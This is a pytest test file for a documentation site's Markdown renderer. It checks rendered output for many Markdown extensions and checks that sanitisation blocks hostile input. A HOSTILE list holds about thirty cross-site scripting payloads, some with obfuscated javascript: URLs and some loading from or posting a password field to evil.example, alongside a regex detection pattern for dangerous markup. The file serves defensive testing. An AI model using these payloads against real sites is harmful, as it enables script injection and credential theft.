"""Pages of documentation: what Markdown becomes, and what never gets through."""

import re
import time
from html import escape

import pytest

from catalog.kernel.markdown import MAX_PAGE_CHARS, Heading, Renderer, sanitise_page

RENDERER = Renderer()


@pytest.fixture(scope="module", autouse=True)
def _closed():
    yield
    RENDERER.close()


def html(source, **options):
    return RENDERER.render(source, **options).html


@pytest.mark.parametrize(
    ("_case", "source", "expected"),
    [
        (
            "admonition",
            '!!! warning "Mind"\n    text',
            '<div class="admonition warning">\n<p class="admonition-title">Mind</p>\n<p>text</p>',
        ),
        ("details", '??? note "More"\n    text', '<details class="note">\n<summary>More</summary>'),
        ("open details", "???+ note\n    text", '<details class="note" open="">'),
        ("alert", "> [!IMPORTANT]\n> text", '<div class="admonition important">'),
        ("quote", "> text", "<blockquote>\n<p>text</p>\n</blockquote>"),
        ("table", "|a|b|\n|-|-:|\n|1|2|", '<th align="right">b</th>'),
        ("strikethrough", "~~gone~~ H~2~O x^2^", "<del>gone</del> H<sub>2</sub>O x<sup>2</sup>"),
        ("inserted, marked", "^^new^^ ==here==", "<ins>new</ins> <mark>here</mark>"),
        ("critic", "{--old--}{++new++}", '<del class="critic">old</del><ins class="critic">new'),
        ("task", "- [x] done", '<input type="checkbox" disabled="" checked=""> done'),
        ("definition", "Term\n:   meaning", "<dt>Term</dt>\n<dd>meaning</dd>"),
        ("abbreviation", "HTML\n\n*[HTML]: Hyper", '<abbr title="Hyper">HTML</abbr>'),
        ("footnote", "a[^1]\n\n[^1]: foot", 'href="#fn:1"'),
        ("emoji", ":rocket: :material-home:{ .big } x", "<p>🚀  x</p>"),
        ("smart", "(c) a --> b", "© a → b"),
        ("keys", "++ctrl+k++", "<kbd>Ctrl</kbd>"),
        ("bare link", "see https://example.com/a", '<a href="https://example.com/a"'),
        ("attributes", '![x](a.png){ width="300" }', 'width="300"'),
        ("download", '[x](a.txt){: download="b.txt"}', 'download="b.txt"'),
        ("heading", "# One two", '<h1 id="one-two">One two<a class="headerlink" href="#one-two"'),
        (
            "code",
            '```python title="a.py" hl_lines="1" linenums="5"\nx = 1\n```',
            '<span class="filename">a.py</span><pre><span></span><code><span class="hll">'
            '<span class="linenos" data-linenos="5 "></span><span class="n">x</span>',
        ),
        ("unknown options", "```js live editor\nlet x\n```", '<span class="kd">let</span>'),
        ("braces", '``` { .yaml title="a.yml" }\na: 1\n```', '<span class="filename">a.yml</span>'),
        ("unknown language", "```nonsense\na < b\n```", "a &lt; b"),
        (
            "mermaid",
            "```mermaid\na --> b\n```",
            '<figure class="diagram"><figcaption>Mermaid diagram, as its source</figcaption>'
            '<div class="highlight"><pre><code>a --&gt; b</code></pre></div></figure>',
        ),
        ("graphviz", "```graphviz dot a.svg\ndigraph\n```", "<figcaption>Graphviz diagram"),
        ("plantuml", '```plantuml width="3px"\nA -> B\n```', "<figcaption>PlantUML diagram"),
        ("uml block", "::uml:: x\nA -> B\n::end-uml::", "<code>A -&gt; B</code>"),
        (
            "tabs",
            '=== "A"\n\n    one\n\n=== "B"\n\n    two',
            '<label for="__tabbed_1_2">B</label>',
        ),
        ("list of two", "1. a\n  1. b\n    1. c\n2. d", "<li>a<ol>\n<li>b<ol>\n<li>c</li>"),
        ("list of three", "1. a\n   - b\n2. c", "<li>a<ul>\n<li>b</li>\n</ul>\n</li>\n<li>c</li>"),
        ("list of four", "- a\n    - b", "<li>a<ul>\n<li>b</li>"),
        ("list after text", "text\n- a", "<p>text</p>\n<ul>\n<li>a</li>"),
        (
            "text of an item",
            "- a\n\n  more\n\nafter",
            "<p>a</p>\n<p>more</p>\n</li>\n</ul>\n<p>after",
        ),
        ("heading after a list", "- a\n# b", '</ul>\n<h1 id="b">'),
        (
            "code of an item",
            "- a\n  ```sh\n  ls\n  ```\n- b",
            "ls\n</code></pre></div></li>\n<li>b",
        ),
        ("list in a note", "!!! note\n    - a\n      - b", "<li>a<ul>\n<li>b</li>"),
        ("indented code", "text\n\n    - code", "- code\n</code></pre>"),
        ("a list as code", "```\n- a\n  - b\n```", "- a\n"),
        ("markup", "<kbd>x</kbd> <div markdown>*y*</div>", "<kbd>x</kbd>"),
        (
            "frame",
            '<iframe src="https://video.example/1?a=1&amp;b=2"></iframe>',
            '<span class="embedded"><a href="https://video.example/1?a=1&amp;b=2" '
            'rel="noopener noreferrer">Embedded page of video.example</a></span>',
        ),
    ],
)
def test_what_is_written_is_shown(_case, source, expected):
    assert expected in html(source)


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    '<a href=" &#14; javascript:alert(1)">x</a>',
    "[x](vbscript:x) [y](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>">',
    '<object data="x.swf"></object><embed src="x.swf"><applet code="x">',
    '<form action="https://evil.example"><input name="password"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="//evil.example">',
    '<link rel="stylesheet" href="//evil.example/x.css"><style>*{display:none}</style>',
    '<p style="position:fixed;inset:0">x</p>',
    '<div class="ui-palette fixed inset-0 note" id="palette" hx-get="/x" x-data="alert(1)">x</div>',
    '<a href="#" data-palette-open onclick="alert(1)" target="_top" ping="//evil.example">x</a>',
    '[x](y){: onclick="alert(1)" style="x" hx-post="/delete" }',
    '# x {: id="seen-entity" onmouseover="alert(1)" }',
    '```python title="<img src=x onerror=alert(1)>"\nx\n```',
    "```mermaid\n</code></pre><script>alert(1)</script>\n```",
    '!!! "x onclick=alert(1)" "<script>alert(1)</script>"\n    y',
    "*[x]: <script>alert(1)</script>\n\nx",
    '<details ontoggle="alert(1)" open><summary>x</summary></details>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    "<video src=x onerror=alert(1)></video><audio autoplay onplay=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<img srcset="javascript:alert(1)" src="//evil.example/x.png">',
]

_BAD = re.compile(
    r"<(?:script|svg|math|iframe|object|embed|form|button|meta|base|link|style|video|audio|template)\b"
    r"|<[^>]* (?:on\w+|style|hx-\w+|x-\w+|srcset|srcdoc|target|ping|data-palette-open)="
    r'|(?:href|src)="\s*(?:javascript|vbscript|data:text|data:image/svg)'
    r'|id="(?:palette|seen-entity)"|class="[^"]*(?:ui-|fixed|inset)'
    r'|<input(?![^>]*type="(?:checkbox|radio)")',
    re.I,
)


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_hostile_gets_through(source):
    for text in (source, f"> {source}", f"- {source}", f"| a |\n|---|\n| {source} |"):
        assert not _BAD.search(html(text)), html(text)


def test_a_page_has_its_headings_words_and_front_matter():
    page = RENDERER.render(
        "---\ntitle: Named\ntags: [a]\n---\n# A & B\n\ntext[^1]\n\n## Two {: #second }\n\n"
        "| x | y |\n|---|---|\n| 1 | 2 |\n\n```\ncode\n```\n\n[^1]: foot"
    )
    assert (page.title, page.front) == ("Named", {"title": "Named", "tags": ["a"]})
    assert page.toc == [Heading("a-b", "A & B", 1), Heading("second", "Two", 2)]
    assert page.text == "A & B text1 Two x y 1 2 code foot"
    assert {"a-b", "second", "fn:1"} <= page.ids
    assert RENDERER.render("# Plain").title == "Plain"
    assert RENDERER.render("text").title == ""
    assert RENDERER.render("---\n[broken\n---\ntext").front == {}
    assert RENDERER.render("---\n\ntext\n\n---\n").html == "<hr>\n<p>text</p>\n<hr>"


def test_links_and_pictures_are_whatever_the_caller_says():
    seen = []

    def link(target, is_image):
        seen.append((target, is_image))
        return None if target == "no" else f"/at/{target}"

    made = html('[a](x.md) ![b](y.png) <img src="z.png"> [c](no) <a href="w">d</a>', link=link)
    assert seen == [("x.md", False), ("y.png", True), ("z.png", True), ("no", False), ("w", False)]
    assert 'href="/at/x.md"' in made
    assert 'src="/at/z.png"' in made
    assert '<a rel="noopener noreferrer">c</a>' in made


def test_snippets_are_asked_for_and_bounded():
    files = {"a.md": 'first\n--8<-- "b.md"', "b.md": "second", "loop.md": '--8<-- "loop.md"\nx'}
    asked = []

    def snippet(name):
        asked.append(name)
        return files.get(name)

    assert html('--8<-- "a.md"', snippet=snippet) == "<p>first\nsecond</p>"
    assert html("--8<--\na.md\n; b.md\n--8<--", snippet=snippet) == "<p>first\nsecond</p>"
    assert html(';--8<-- "a.md"', snippet=snippet) == '<p>--8← "a.md"</p>'
    assert html('x\n\n--8<-- "gone.md"', snippet=snippet) == "<p>x</p>"
    asked.clear()
    html('--8<-- "loop.md"', snippet=snippet)
    assert len(asked) == 10


@pytest.mark.parametrize(
    "source",
    ["<b>" + "x" * MAX_PAGE_CHARS, "[" * 20_000],
    ids=["long", "brackets"],
)
def test_what_is_too_much_for_the_parser_is_shown_as_written(source):
    started = time.monotonic()
    with Renderer(max_page_s=0.6) as renderer:
        page = renderer.render(source)
        assert page.is_plain
        assert page.html == f"<pre>{escape(source)}</pre>"
        assert renderer.render("*next*").html in ("<p><em>next</em></p>", "<pre>*next*</pre>")
    assert time.monotonic() - started < 5


def test_depth_ends_somewhere():
    assert "x" in html("> " * 2_000 + "x")
    assert not _BAD.search(html("<div>" * 2_000 + "<script>x</script>"))


def test_markup_alone_is_cleaned_too():
    assert sanitise_page('<p id="a b" class="note x">y<input type="text"></p>') == (
        '<p class="note">y</p>'
    )
